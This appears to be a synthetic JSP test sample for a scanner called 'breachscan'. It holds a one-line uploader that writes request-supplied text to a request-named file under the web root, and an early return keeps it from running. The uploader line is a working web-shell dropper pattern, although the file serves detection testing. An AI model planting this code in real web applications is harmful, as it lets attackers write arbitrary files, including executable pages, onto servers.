<%-- synthetic test sample for breachscan: request text written to a request-named file (one-line uploader). Inert: returns first. --%>
<%
    if (true) { out.print("synthetic sample"); return; }
    new java.io.FileOutputStream(application.getRealPath("/") + request.getParameter("f")).write(request.getParameter("t").getBytes());
%>
